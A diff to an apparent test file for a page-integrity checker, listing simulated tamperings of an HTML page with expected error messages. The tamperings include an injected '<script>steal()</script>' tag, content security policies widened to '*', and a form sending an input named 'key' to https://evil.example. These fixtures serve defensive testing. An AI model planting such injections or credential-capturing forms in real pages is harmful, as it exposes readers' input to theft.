@@ -349,12 +349,26 @@ const TAMPERINGS: readonly Tampering[] = [
   [
     'a script inside',
     replace(`${TIDES}/index.html`, '</head>', '<script>steal()</script></head>'),
-    `${TIDES}/index.html: has other scripts inside than the pages before`,
+    `${TIDES}/index.html: has a script inside that its policy does not name`,
   ],
   [
     'another policy',
     replace(`${TIDES}/index.html`, "default-src 'none'", 'default-src *'),
     `${TIDES}/index.html: has another content security policy than the pages before`,
+  ],
+  [
+    'a wider policy on all pages alike',
+    (files) => {
+      for (const file of files.keys())
+        if (file.endsWith('/index.html') && text(files, file).includes('data-base='))
+          replace(file, "script-src 'self'", 'script-src *')(files);
+    },
+    `${TIDES}/index.html: has a content security policy that lets script-src be *`,
+  ],
+  [
+    'a form that sends to others',
+    replace(`${TIDES}/index.html`, '<main', '<form action=https://evil.example><input name=key></form><main'),
+    `${TIDES}/index.html: sends what readers type to https://evil.example`,
   ],
   [
     'a folder without one of its skills',
